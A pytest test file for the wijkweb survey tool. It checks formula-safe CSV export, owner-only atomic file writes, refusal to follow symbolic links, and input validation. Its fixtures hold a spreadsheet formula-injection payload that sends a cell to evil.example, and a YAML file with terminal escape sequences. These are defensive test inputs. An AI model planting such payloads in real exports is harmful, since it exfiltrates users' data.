"""Files that are safe to open: formula-safe CSV, owner-only files written atomically, never through a
symbolic link or over an existing file, and commands that read never creating a database.

The folder an export, report, backup, bundle or key goes to is watched with inotify (through ctypes)
while wijkweb writes it: every file that appears there is owner-only from the moment it appears.
"""
import csv
import ctypes
import io
import os
import select
import shutil
import sqlite3
import struct
import subprocess

import pytest

from conftest import BINARY, CLEAN_ENVIRONMENT, REPO, query

ROUND = "=Ronde 2026"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "matters": '=HYPERLINK("http://evil.example/?id="&A2,"Meer info")',
    "change": "=2+3",
    "help": "+31 6 krijgt het woord",
    "improve": "@SUM(1+1)",
}


def environment(**extra):
    return dict(CLEAN_ENVIRONMENT, WIJKWEB_DATA=str(REPO), TZ="UTC", LANG="C.UTF-8", **extra)


def wijkweb(*args, check=True, umask=None, stdin=None):
    result = subprocess.run([str(BINARY), *args], capture_output=True, text=True, env=environment(), timeout=120,
                            preexec_fn=(lambda: os.umask(umask)) if umask is not None else None, input=stdin)
    if check:
        assert result.returncode == 0, f"wijkweb {' '.join(args)} failed:\n{result.stdout}\n{result.stderr}"
    return result


@pytest.fixture(scope="module")
def demo(tmp_path_factory):
    """A round whose name starts with "=", an area whose name is a formula, hostile publishable reflections."""
    folder = tmp_path_factory.mktemp("files")
    db = folder / "gegevens" / "wijkweb.sqlite"
    wijkweb("demo", "--db", str(db), "--responses", "120", "--seed", "5", "--round", ROUND, "--no-previous")
    connection = sqlite3.connect(str(db))
    with connection:
        ids = [row[0] for row in connection.execute("SELECT id FROM responses ORDER BY key LIMIT 6")]
        for rid, (prompt, text) in zip(ids, HOSTILE.items()):
            connection.execute("INSERT INTO reflections (response_id, prompt_id, text, review_status, dimensions) "
                               "VALUES (?, ?, ?, 'publishable', 'meedoen,zingeving')", (rid, prompt, text))
        # Dialogue answers: one publishable (tagged), one not.
        connection.execute("INSERT INTO reflections (response_id, prompt_id, text, review_status, dimensions) VALUES "
                           "(?, 'dialogue.health.zingeving.1', 'Mijn koor, elke dinsdag', 'publishable', 'zingeving')", (ids[4],))
        connection.execute("INSERT INTO reflections (response_id, prompt_id, text, review_status, dimensions) VALUES "
                           "(?, 'dialogue.health.meedoen.2', 'Geheim verhaal over de buren', 'not_publishable', 'meedoen')",
                           (ids[5],))
        connection.execute("UPDATE areas SET name = '-Oosterparkwijk' WHERE level = 'gemeente'")
    connection.close()
    out = folder / "uit"
    out.mkdir(mode=0o700)
    return db, out


def first_characters_are_safe(path):
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) > 1
    fields = [field for row in rows for field in row]
    for field in fields:
        if field and field[0] in FORMULA_STARTS:
            # A number such as -0.25 is a number, not a formula; anything else must start safely.
            try:
                float(field)
            except ValueError:
                pytest.fail(f"{path.name}: field starts like a formula: {field!r}")
    return fields


def test_csv_fields_never_start_like_a_formula(demo):
    db, out = demo
    data = out / "antwoorden.csv"
    wijkweb("export", "responses", "--db", str(db), "--round", ROUND, "--format", "csv", "--out", str(data), "--include-text")
    fields = first_characters_are_safe(data)
    assert "'" + ROUND in fields, "the round name is kept, neutralised"
    for text in HOSTILE.values():
        assert "'" + text in fields, text
    codebook = out / "antwoorden-codebook.csv"
    assert codebook.exists()
    first_characters_are_safe(codebook)
    profiles = out / "profielen.csv"
    wijkweb("export", "profiles", "--db", str(db), "--round", ROUND, "--format", "csv", "--out", str(profiles))
    fields = first_characters_are_safe(profiles)
    assert "'-Oosterparkwijk" in fields and "'" + ROUND in fields
    # XLSX keeps the text as it is (cells are strings there, never formulas).
    sheet = out / "antwoorden.xlsx"
    wijkweb("export", "responses", "--db", str(db), "--round", ROUND, "--format", "xlsx", "--out", str(sheet), "--include-text")
    import zipfile
    with zipfile.ZipFile(sheet) as archive:
        xml = b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/"))
    assert b"=2+3" in xml and b"'=2+3" not in xml and b"<f>" not in xml


# inotify through ctypes: no package needed.
IN_CREATE, IN_MOVED_TO = 0x100, 0x80


class FolderWatch:
    """Every name created in a folder, with its mode as soon as the event is read."""

    def __init__(self, folder):
        self.folder = folder
        self.libc = ctypes.CDLL("libc.so.6", use_errno=True)
        self.fd = self.libc.inotify_init1(os.O_NONBLOCK)
        assert self.fd >= 0
        assert self.libc.inotify_add_watch(self.fd, str(folder).encode(), IN_CREATE | IN_MOVED_TO) >= 0
        self.seen = {}

    def drain(self):
        while True:
            try:
                data = os.read(self.fd, 65536)
            except BlockingIOError:
                return
            offset = 0
            while offset < len(data):
                _, mask, _, length = struct.unpack_from("iIII", data, offset)
                name = data[offset + 16: offset + 16 + length].rstrip(b"\0").decode()
                offset += 16 + length
                try:
                    mode = os.lstat(self.folder / name).st_mode & 0o7777
                except FileNotFoundError:
                    mode = None
                self.seen.setdefault(name, []).append(mode)

    def run(self, *args, umask=0o022, stdin=None):
        process = subprocess.Popen([str(BINARY), *args], env=environment(), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                   stdin=subprocess.PIPE if stdin else None, text=True,
                                   preexec_fn=lambda: os.umask(umask))
        if stdin:
            process.stdin.write(stdin)
            process.stdin.close()
        while process.poll() is None:
            select.select([self.fd], [], [], 0.01)
            self.drain()
        self.drain()
        stderr = process.stderr.read()
        assert process.returncode == 0, stderr
        return stderr

    def close(self):
        os.close(self.fd)


def test_every_written_file_is_owner_only_from_its_first_byte(demo, tmp_path):
    db, _ = demo
    folder = tmp_path / "gedeeld"
    folder.mkdir()
    watch = FolderWatch(folder)
    passphrase = tmp_path / "wachtwoord.txt"
    passphrase.write_text("een lange geheime zin voor de test\n")
    try:
        for fmt in ("csv", "xlsx", "sav", "json"):
            watch.run("export", "responses", "--db", str(db), "--round", ROUND, "--format", fmt,
                      "--out", str(folder / f"r.{fmt}"), "--include-text")
        watch.run("export", "profiles", "--db", str(db), "--round", ROUND, "--format", "xlsx", "--out", str(folder / "p.xlsx"))
        for fmt in ("pdf", "html"):
            watch.run("report", "--db", str(db), "--round", ROUND, "--all", "--format", fmt, "--out", str(folder / f"rapport.{fmt}"))
        watch.run("backup", "--db", str(db), "--out", str(folder / "kopie.sqlite"))
        watch.run("bundle", "export", "--db", str(db), "--out", str(folder / "bundel.wwb"), "--passphrase-file", str(passphrase))
        watch.run("keys", "create", "--out", str(folder / "team"), "--passphrase-file", str(passphrase),
                  "--paper", str(folder / "team.paper.txt"))
    finally:
        watch.close()
    assert any(".partial-" in name for name in watch.seen), "the writer's temporary files were seen"
    for name, modes in watch.seen.items():
        if name == "team.pub":
            continue  # a public key is meant to be read by others
        for mode in modes:
            assert mode in (None, 0o600), f"{name} appeared with mode {oct(mode)}"
    final = sorted(os.listdir(folder))
    assert not [name for name in final if ".partial-" in name], final
    for name in final:
        expected = 0o644 if name == "team.pub" else 0o600
        assert os.lstat(folder / name).st_mode & 0o7777 == expected, name
    # libxlsxwriter's temporary files went to the export's own folder, not to /tmp.
    assert any(name.startswith("tmp.") for name in watch.seen), "libxlsxwriter's sheets were spooled here"


def test_report_never_overwrites_or_follows_a_link(demo, tmp_path):
    db, _ = demo
    existing = tmp_path / "rapport.pdf"
    existing.write_text("eerdere versie")
    refused = wijkweb("report", "--db", str(db), "--round", ROUND, "--all", "--out", str(existing), check=False)
    assert refused.returncode != 0 and "already exists" in refused.stderr and "--force" in refused.stderr
    assert existing.read_text() == "eerdere versie"
    wijkweb("report", "--db", str(db), "--round", ROUND, "--all", "--out", str(existing), "--force")
    assert existing.read_bytes().startswith(b"%PDF-") and existing.stat().st_mode & 0o777 == 0o600

    victim = tmp_path / "passwd"
    victim.write_text("root:x:0:0\n")
    link = tmp_path / "link.html"
    link.symlink_to(victim)
    for force in ([], ["--force"]):
        result = wijkweb("report", "--db", str(db), "--round", ROUND, "--all", "--format", "html", "--out", str(link), *force,
                         check=False)
        assert result.returncode != 0 and "symbolic link" in result.stderr
    assert victim.read_text() == "root:x:0:0\n"


def test_backup_never_creates_the_target_of_a_dangling_link(demo, tmp_path):
    db, _ = demo
    target = tmp_path / "elders" / "buit.sqlite"
    (tmp_path / "elders").mkdir()
    link = tmp_path / "kopie.sqlite"
    link.symlink_to(target)
    result = wijkweb("backup", "--db", str(db), "--out", str(link), check=False)
    assert result.returncode != 0 and "symbolic link" in result.stderr
    assert not target.exists()
    assert sorted(os.listdir(tmp_path)) == ["elders", "kopie.sqlite"]
    wijkweb("backup", "--db", str(db), "--out", str(tmp_path / "goed.sqlite"))
    copy = sqlite3.connect(str(tmp_path / "goed.sqlite"))
    assert copy.execute("SELECT count(*) FROM responses").fetchone()[0] == 120
    copy.close()


READING = [
    ["profile"], ["report", "--all", "--out", "{out}/r.pdf"], ["export", "responses", "--format", "csv", "--out", "{out}/e.csv"],
    ["export", "profiles", "--format", "csv", "--out", "{out}/p.csv"], ["check"], ["audit"], ["round", "list"],
    ["round", "show", "X"], ["bundle", "export", "--out", "{out}/b.wwb"], ["purge"], ["backup", "--out", "{out}/k.sqlite"],
]


def test_commands_that_read_never_create_a_database(tmp_path):
    out = tmp_path / "uit"
    out.mkdir()
    missing = tmp_path / "typefout" / "wijkweb.sqlite"
    for command in READING:
        args = [part.replace("{out}", str(out)) for part in command]
        result = wijkweb(*args, "--db", str(missing), check=False)
        assert result.returncode != 0, args
        assert f"There is no database at {missing}" in result.stderr, (args, result.stderr)
        assert result.stderr.strip().count("\n") == 0, "one sentence"
        assert not missing.parent.exists(), args
        assert os.listdir(out) == [], args
    empty = wijkweb("profile", "--db", "", check=False)
    assert empty.returncode != 0 and "empty" in empty.stderr


def test_a_refused_database_path_leaves_nothing(tmp_path):
    shared = tmp_path / "gedeeld"
    shared.mkdir()
    shared.chmod(0o1777)
    result = wijkweb("demo", "--db", str(shared / "wijkweb.sqlite"), "--responses", "5", check=False)
    assert result.returncode != 0 and "other users" in result.stderr
    assert os.listdir(shared) == []


def test_unknown_round_fails_everywhere(demo):
    db, out = demo
    for command in (["purge", "--round", "Bestaat niet"], ["profile", "--round", "Bestaat niet"],
                    ["export", "profiles", "--round", "Bestaat niet", "--format", "csv", "--out", str(out / "nooit.csv")]):
        result = wijkweb(*command, "--db", str(db), check=False)
        assert result.returncode != 0 and "no round" in result.stderr, command
    result = wijkweb("profile", "--db", str(db), "--round", ROUND, "--area", "WK999999", check=False)
    assert result.returncode != 0 and "no area" in result.stderr


def test_spss_declares_prefer_not_to_say_and_unanswered_as_missing(demo, tmp_path):
    pyreadstat = pytest.importorskip("pyreadstat", reason="make e2e installs pyreadstat")
    db, _ = demo
    path = tmp_path / "antwoorden.sav"
    wijkweb("export", "responses", "--db", str(db), "--round", ROUND, "--format", "sav", "--out", str(path))
    raw, meta = pyreadstat.read_sav(str(path), user_missing=True, output_format="dict")
    assert -1.0 in raw["sex"] or -1.0 in raw["age"] or -1.0 in raw["household"], "someone preferred not to say"
    for name in ("age", "sex", "household"):
        assert {"lo": -1.0, "hi": -1.0} in meta.missing_ranges[name] and {"lo": -2.0, "hi": -2.0} in meta.missing_ranges[name]
        assert meta.variable_value_labels[name][-1.0] == "zeg ik liever niet"
        assert meta.variable_value_labels[name][-2.0] == "niet beantwoord"
    for level in ("gemeente", "wijk", "buurt"):
        assert meta.missing_ranges[level] == [{"lo": -2.0, "hi": -2.0}]
        assert all(label.split(" ")[0][:2] in ("GM", "WK", "BU", "ni") for label in meta.variable_value_labels[level].values())
    # Without user_missing the codes are missing values, not answers.
    plain, _ = pyreadstat.read_sav(str(path), output_format="dict")
    for name in ("age", "sex", "household", "buurt"):
        for value in plain[name]:
            assert value is None or value != value or value > 0, (name, value)
    if not shutil.which("pspp"):
        pytest.skip("PSPP is not installed (make deps installs it)")
    syntax = tmp_path / "freq.sps"
    syntax.write_text(f"GET FILE='{path}'.\nFREQUENCIES VARIABLES=age sex household buurt.\n")
    output = subprocess.run(["pspp", "-O", "format=txt", "-o", "-", str(syntax)], capture_output=True, text=True, timeout=120).stdout
    assert "Missing zeg ik liever niet" in output
    valid = [line for line in output.splitlines() if line.startswith("|Valid") or line.startswith("|  ") or line.startswith("|       ")]
    assert not any("zeg ik liever niet" in line or "niet beantwoord" in line for line in valid)


def test_include_text_exports_dialogue_answers_and_dimension_tags(demo, tmp_path):
    db, _ = demo
    for fmt in ("csv", "json"):
        wijkweb("export", "responses", "--db", str(db), "--round", ROUND, "--format", fmt, "--out", str(tmp_path / f"t.{fmt}"),
                "--include-text")
    with open(tmp_path / "t.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    header = list(rows[0])
    assert "dialogue_health_zingeving_1" in header and "tags_dialogue_health_zingeving_1" in header
    assert "dialogue_health_meedoen_2" not in header, "no column for a dialogue answer that is not publishable"
    assert [row["dialogue_health_zingeving_1"] for row in rows if row["dialogue_health_zingeving_1"]] == ["Mijn koor, elke dinsdag"]
    assert [row["tags_dialogue_health_zingeving_1"] for row in rows if row["tags_dialogue_health_zingeving_1"]] == ["zingeving"]
    assert sorted(row["tags_matters"] for row in rows if row["tags_matters"]) == ["meedoen,zingeving"]
    assert "Geheim verhaal" not in (tmp_path / "t.csv").read_text(encoding="utf-8")
    with open(tmp_path / "t-codebook.csv", newline="", encoding="utf-8") as handle:
        codebook = {row["variable"]: row for row in csv.DictReader(handle)}
    assert codebook["dialogue_health_zingeving_1"]["kind"] == "text" and codebook["tags_matters"]["kind"] == "tags"
    assert codebook["dialogue_health_zingeving_1"]["dimension"] == "zingeving"
    import json
    document = json.loads((tmp_path / "t.json").read_text(encoding="utf-8"))
    assert [r["dialogue_health_zingeving_1"] for r in document["responses"] if r["dialogue_health_zingeving_1"]] == \
        ["Mijn koor, elke dinsdag"]


def test_questionnaire_and_area_files_are_checked_before_parsing(tmp_path):
    hostile = tmp_path / "vragen.yaml"
    hostile.write_bytes(b"id: x\nversion: 1\ntitle: \"\x1b[2J\x1b]0;gehackt\x07\"\nid: y\n" + b"extra: " + b"z" * 50000 + b"\n")
    result = wijkweb("questionnaire", "check", str(hostile), check=False)
    assert result.returncode != 0
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout, "control characters are shown escaped"
    problems = [line for line in result.stdout.splitlines() if line.startswith(str(hostile) + ":")]
    assert problems and all(len(line) < 500 for line in result.stdout.splitlines()), "at most one line of the file per problem"

    invalid = tmp_path / "latin1.yaml"
    invalid.write_bytes(b"id: caf\xe9\n")
    result = wijkweb("questionnaire", "check", str(invalid), check=False)
    assert result.returncode != 0 and "not valid UTF-8 text (at byte 7)" in result.stdout

    result = wijkweb("questionnaire", "check", "/dev/zero", check=False)
    assert result.returncode != 0 and "/dev/zero is not a regular file" in result.stdout

    big = tmp_path / "groot.yaml"
    big.write_bytes(b"# " + b"x" * 2_000_000 + b"\n")
    result = wijkweb("questionnaire", "check", str(big), check=False)
    assert result.returncode != 0 and "at most 1000000 bytes" in result.stdout

    db = tmp_path / "db" / "w.sqlite"
    wijkweb("round", "list", "--db", str(db), check=False)
    wijkweb("demo", "--db", str(db), "--responses", "3", "--round", "R")
    result = wijkweb("areas", "import", "/nonexistent.csv", "--db", str(db), check=False)
    assert result.returncode != 0 and "/nonexistent.csv does not exist" in result.stderr
    assert ".csv.csv" not in result.stderr and "Areas/" not in result.stderr
    result = wijkweb("areas", "import", "onbekend", "--db", str(db), check=False)
    assert result.returncode != 0 and "no shipped list" in result.stderr


def test_messages_follow_the_language(demo, tmp_path):
    db, _ = demo
    english = wijkweb("profile", "--db", str(db), "--language", "en")
    assert f"round: {ROUND}" in english.stderr and "ronde:" not in english.stderr
    dutch = wijkweb("profile", "--db", str(db))
    assert f"ronde: {ROUND}" in dutch.stderr
    report = wijkweb("report", "--db", str(db), "--all", "--language", "en", "--out", str(tmp_path / "r.pdf"))
    assert "round: " in report.stderr and "page(s)" in report.stderr and "ronde" not in report.stderr


def test_xlsx_column_widths_fit_the_data(demo, tmp_path):
    import re
    import zipfile
    db, _ = demo
    path = tmp_path / "breed.xlsx"
    wijkweb("export", "responses", "--db", str(db), "--round", ROUND, "--format", "xlsx", "--out", str(path), "--include-text")
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    widths = {int(m.group(1)): float(m.group(3)) for m in re.finditer(r'<col min="(\d+)" max="(\d+)" width="([\d.]+)"', sheet)}
    header = re.findall(r"<c r=\"([A-Z]+)1\"", sheet)
    assert len(widths) >= len(header) - 1, "every column has a width"
    # Column 1 holds 36-character uuids, completed_on (column 9) a date: neither is shown as ###.
    assert widths[1] >= 36 and widths[9] >= 10
    assert max(widths.values()) <= 62, "a long text does not make a column wider than a screen"


def test_level_names_match_in_english_across_report_codebook_and_profile(demo, tmp_path):
    db, _ = demo
    wijk = query(db, "SELECT code FROM areas WHERE level = 'wijk' AND code IN (SELECT area_code FROM responses) LIMIT 1")
    profile = wijkweb("profile", "--db", str(db), "--language", "en", "--area", wijk[0][0])
    assert "(district, " in profile.stdout
    wijkweb("export", "responses", "--db", str(db), "--format", "csv", "--out", str(tmp_path / "e.csv"))
    with open(tmp_path / "e-codebook.csv", newline="", encoding="utf-8") as handle:
        labels = {row["variable"]: row["label_en"] for row in csv.DictReader(handle)}
    assert labels["wijk"].startswith("District") and labels["buurt"].startswith("Neighbourhood")
    assert labels["gebied"].startswith("Area")
